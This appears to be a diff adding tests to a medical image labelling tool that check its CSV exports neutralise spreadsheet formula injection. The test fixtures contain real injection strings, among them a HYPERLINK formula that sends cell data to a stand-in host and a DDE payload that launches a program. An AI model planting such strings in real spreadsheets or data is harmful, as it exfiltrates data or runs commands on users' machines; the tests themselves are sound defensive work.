@@ -200,3 +200,55 @@ def test_cli(run_dir, store, tmp_path, monkeypatch, capsys):
     assert "wrote 5 rows" in printed and "review" in printed and out.exists()
     assert cli.main(["export", str(tmp_path / "missing"), "--out", str(tmp_path / "x.csv")]) == EXIT_BAD_INPUT
     assert not (tmp_path / "x.csv").exists()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            "fine\r=1+1"]  # a CR inside a cell: quoted, else a spreadsheet starts a new row (and cell) there
+
+
+def test_formula_like_notes_reviewers_votes_and_images_are_neutralised(tmp_path, store):
+    """OWASP's rule for every cell a spreadsheet would run: a leading ' (shown as text, never executed)."""
+    import csv
+
+    from engine import atomic
+
+    run = tmp_path / "run"
+    votes = "@dr_a=plus;-dr_b=normal"  # expert names are free text from votes.csv's header
+    rows = [_row("-scan.png", "plus", False, "plus", votes=votes), _row("=x.png", "plus", True, "plus"),
+            *(_row(f"{i}.png", "normal", True, "normal") for i in range(len(FORMULAS)))]
+    atomic.write_csv(run / "labels.csv", pd.DataFrame(rows, columns=schema.labels_columns(CLASSES)))
+    raw_labels = (run / "labels.csv").read_text()
+    assert "\n'-scan.png," in raw_labels and "\n'=x.png," in raw_labels and ",'@dr_a=plus;-dr_b=normal," in raw_labels
+    labels, _ = read_labels(run / "labels.csv")  # read back as written: the run's own names are kept
+    assert list(labels["image"][:2]) == ["-scan.png", "=x.png"] and labels["votes"][0] == votes
+
+    _decide(store, run, "-scan.png", "normal", reviewer="=cmd|' /C calc'!A0", note="-2+3")
+    for i, text in enumerate(FORMULAS):
+        _decide(store, run, f"{i}.png", "plus", reviewer=text.strip() or "x", note=text)
+    out = tmp_path / "cleaned.csv"
+    frame = export_labels(run, store=store, out=out)
+    with open(out, newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    written = {c[1:] for c in cells if c.startswith("'")}
+    for text in [*FORMULAS, "-2+3", "=cmd|' /C calc'!A0", "-scan.png", "=x.png", votes]:
+        assert text in written or text == "fine\r=1+1", repr(text)
+    assert "fine\r=1+1" in cells and "0.8" in cells  # the CR stayed inside its quoted cell; numbers as they are
+    assert frame.set_index("image").loc["-scan.png", "note"] == "-2+3"  # the returned frame holds the real text
+
+
+def test_a_roles_file_keeps_formula_like_image_names_through_a_round_trip(tmp_path):
+    from PIL import Image
+
+    from engine.data.split import read_roles, write_roles
+    from engine.data.votes import read_votes
+
+    ds = tmp_path / "ds"
+    ds.mkdir()
+    for name in ("-a.png", "+b.png", "c.png"):
+        Image.new("RGB", (4, 4)).save(ds / name)
+    (ds / "votes.csv").write_text("image,dr_a,dr_b\n-a.png,n,n\n+b.png,p,p\nc.png,n,p\n")
+    table = read_votes(ds)
+    write_roles(tmp_path / "roles.csv", list(table.frame["image"]), ["meta", "test", "train"])
+    assert "'-a.png,meta" in (tmp_path / "roles.csv").read_text()
+    assert list(read_roles(tmp_path / "roles.csv", table)) == ["meta", "test", "train"]
